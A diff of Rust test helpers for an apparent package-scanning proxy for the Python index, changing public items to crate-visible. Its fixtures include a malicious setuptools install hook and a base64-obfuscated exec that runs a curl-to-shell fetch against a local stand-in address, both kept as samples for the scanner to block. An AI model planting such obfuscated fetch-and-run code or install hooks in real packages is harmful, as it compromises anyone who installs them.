@@ -17,11 +17,11 @@ use std::net::{SocketAddr, TcpStream};
 use std::sync::{Arc, Mutex};
 use std::time::Duration;
 
-pub const PIP_ACCEPT: &str =
+pub(crate) const PIP_ACCEPT: &str =
     "application/vnd.pypi.simple.v1+json, application/vnd.pypi.simple.v1+html; q=0.1, text/html; q=0.01";
-pub const JSON_CT: &str = "application/vnd.pypi.simple.v1+json";
+pub(crate) const JSON_CT: &str = "application/vnd.pypi.simple.v1+json";
 
-pub const MALICIOUS_SETUP: &str = r#"
+pub(crate) const MALICIOUS_SETUP: &str = r#"
 from setuptools import setup
 from setuptools.command.install import install
 import os, urllib.request
@@ -36,16 +36,16 @@ setup(name="evil", version="1.0", cmdclass={"install": PostInstall})
 "#;
 
 /// `exec` of a base64 payload at import time: blocked in a wheel.
-pub const DECODE_EXEC_INIT: &str =
+pub(crate) const DECODE_EXEC_INIT: &str =
     "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgaHR0cDovLzEyNy4wLjAuMTo5L3ggfCBzaCIp'))\n";
 
-pub fn sha256_hex(b: &[u8]) -> String {
+pub(crate) fn sha256_hex(b: &[u8]) -> String {
     use sha2::Digest;
     crate::hex::hex(&sha2::Sha256::digest(b))
 }
 
 /// A wheel with METADATA, WHEEL and a correct RECORD.
-pub fn wheel(name: &str, version: &str, files: &[(&str, &str)]) -> (String, Vec<u8>, String) {
+pub(crate) fn wheel(name: &str, version: &str, files: &[(&str, &str)]) -> (String, Vec<u8>, String) {
     use base64::Engine;
     use sha2::Digest;
     let dist = format!("{}-{version}.dist-info", name.replace('-', "_"));
@@ -70,7 +70,7 @@ pub fn wheel(name: &str, version: &str, files: &[(&str, &str)]) -> (String, Vec<
 }
 
 /// A .tar.gz sdist with PKG-INFO.
-pub fn sdist(name: &str, version: &str, files: &[(&str, &str)]) -> (String, Vec<u8>) {
+pub(crate) fn sdist(name: &str, version: &str, files: &[(&str, &str)]) -> (String, Vec<u8>) {
     let root = format!("{name}-{version}");
     let mut b = tar::Builder::new(flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default()));
     let pkg_info = format!("Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n");
@@ -86,7 +86,7 @@ pub fn sdist(name: &str, version: &str, files: &[(&str, &str)]) -> (String, Vec<
 
 /// The fixture upstream: pages by normalized name (JSON or HTML text) and files by path.
 #[derive(Default, Clone)]
-pub struct Fixture {
+pub(crate) struct Fixture {
     pub pages: HashMap<String, (String, &'static str)>,
     pub files: HashMap<String, Vec<u8>>,
     /// Paths answered with this status instead.
@@ -96,17 +96,17 @@ pub struct Fixture {
 }
 
 impl Fixture {
-    pub fn json_page(&mut self, name: &str, doc: serde_json::Value) {
+    pub(crate) fn json_page(&mut self, name: &str, doc: serde_json::Value) {
         self.pages.insert(name.into(), (doc.to_string(), JSON_CT));
     }
-    pub fn html_page(&mut self, name: &str, html: String) {
+    pub(crate) fn html_page(&mut self, name: &str, html: String) {
         self.pages.insert(name.into(), (html, "text/html"));
     }
-    pub fn file(&mut self, path: &str, bytes: Vec<u8>) {
+    pub(crate) fn file(&mut self, path: &str, bytes: Vec<u8>) {
         self.files.insert(path.into(), bytes);
     }
 
-    pub fn serve(self) -> TestServer {
+    pub(crate) fn serve(self) -> TestServer {
         TestServer::start(move |r: &Recorded, _| {
             let path = r.path.split('?').next().unwrap_or_default().to_string();
             if let Some(s) = self.fail.get(&path) {
@@ -134,7 +134,7 @@ impl Fixture {
 /// The standard fixture: `demo` (JSON page: clean wheel + sdist, one yanked, extra keys),
 /// `evil` (HTML page: malicious sdist), `badwheel` (JSON: decode-exec wheel), `tampered`
 /// (advertised hash does not match), `withmeta` (upstream PEP 658 metadata).
-pub struct Standard {
+pub(crate) struct Standard {
     pub fixture: Fixture,
     pub demo_whl: (String, Vec<u8>, String),
     pub demo_sdist: (String, Vec<u8>),
@@ -142,7 +142,7 @@ pub struct Standard {
     pub bad_whl: (String, Vec<u8>, String),
 }
 
-pub fn standard() -> Standard {
+pub(crate) fn standard() -> Standard {
     let mut fx = Fixture::default();
     let demo_whl = wheel("demo", "1.0", &[("demo/__init__.py", "def mean(xs):\n    return sum(xs) / len(xs)\n")]);
     let demo_sdist = sdist("demo", "0.9", &[("setup.py", "from setuptools import setup\nsetup(name='demo', version='0.9')\n")]);
@@ -196,7 +196,7 @@ pub fn standard() -> Standard {
 }
 
 /// A PEP 691 page listing `files` under `/files/`.
-pub fn page_doc(name: &str, files: &[(&str, &[u8])]) -> serde_json::Value {
+pub(crate) fn page_doc(name: &str, files: &[(&str, &[u8])]) -> serde_json::Value {
     let files: Vec<_> = files
         .iter()
         .map(|(f, b)| serde_json::json!({"filename": f, "url": format!("/files/{f}"), "hashes": {"sha256": sha256_hex(b)}}))
@@ -206,7 +206,7 @@ pub fn page_doc(name: &str, files: &[(&str, &[u8])]) -> serde_json::Value {
 
 /// A gate with scripted answers around the scan-only gate, counting what it was asked.
 #[derive(Default)]
-pub struct ScriptedGate {
+pub(crate) struct ScriptedGate {
     pub inner: ScanGate,
     pub known: Mutex<HashMap<String, PackageReport>>,
     pub hide: Mutex<HashMap<String, String>>,
@@ -232,7 +232,7 @@ impl FileGate for ScriptedGate {
     }
 }
 
-pub fn proxy_for(upstream: &str, gate: Arc<dyn FileGate>, tweak: impl FnOnce(&mut ProxyConfig)) -> RunningProxy {
+pub(crate) fn proxy_for(upstream: &str, gate: Arc<dyn FileGate>, tweak: impl FnOnce(&mut ProxyConfig)) -> RunningProxy {
     let mut s = IndexSettings::for_index(upstream);
     s.retries = 0;
     s.timeout = Duration::from_secs(5);
@@ -243,7 +243,7 @@ pub fn proxy_for(upstream: &str, gate: Arc<dyn FileGate>, tweak: impl FnOnce(&mu
 
 /// A response as read off the socket.
 #[derive(Debug)]
-pub struct Raw {
+pub(crate) struct Raw {
     pub status: u16,
     pub reason: String,
     pub headers: Vec<(String, String)>,
@@ -251,19 +251,19 @@ pub struct Raw {
 }
 
 impl Raw {
-    pub fn header(&self, name: &str) -> Option<&str> {
+    pub(crate) fn header(&self, name: &str) -> Option<&str> {
         self.headers.iter().find(|(k, _)| k.eq_ignore_ascii_case(name)).map(|(_, v)| v.as_str())
     }
-    pub fn json(&self) -> serde_json::Value {
+    pub(crate) fn json(&self) -> serde_json::Value {
         serde_json::from_slice(&self.body).expect("JSON body")
     }
-    pub fn text(&self) -> String {
+    pub(crate) fn text(&self) -> String {
         String::from_utf8_lossy(&self.body).into_owned()
     }
 }
 
 /// One HTTP/1.1 request over a fresh connection; reads the whole answer.
-pub fn request(addr: SocketAddr, method: &str, path: &str, headers: &[(&str, &str)]) -> Raw {
+pub(crate) fn request(addr: SocketAddr, method: &str, path: &str, headers: &[(&str, &str)]) -> Raw {
     let mut s = TcpStream::connect(addr).expect("connect to proxy");
     s.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
     let mut req = format!("{method} {path} HTTP/1.1\r\nConnection: close\r\n");
@@ -289,12 +289,12 @@ pub fn request(addr: SocketAddr, method: &str, path: &str, headers: &[(&str, &st
     Raw { status, reason, headers, body: all[end + 4..].to_vec() }
 }
 
-pub fn get(p: &RunningProxy, path: &str) -> Raw {
+pub(crate) fn get(p: &RunningProxy, path: &str) -> Raw {
     request(p.addr(), "GET", path, &[])
 }
 
 /// The proxy URLs of a JSON page's files, by filename.
-pub fn file_urls(p: &RunningProxy, project: &str) -> HashMap<String, String> {
+pub(crate) fn file_urls(p: &RunningProxy, project: &str) -> HashMap<String, String> {
     let page = request(p.addr(), "GET", &format!("/u/0/simple/{project}/"), &[("Accept", PIP_ACCEPT)]);
     assert_eq!(page.status, 200, "{}", page.reason);
     page.json()["files"]
@@ -306,6 +306,6 @@ pub fn file_urls(p: &RunningProxy, project: &str) -> HashMap<String, String> {
 }
 
 /// How many requests upstream saw for a path.
-pub fn hits(srv: &TestServer, path: &str) -> usize {
+pub(crate) fn hits(srv: &TestServer, path: &str) -> usize {
     srv.requests().iter().filter(|r| r.path == path).count()
 }
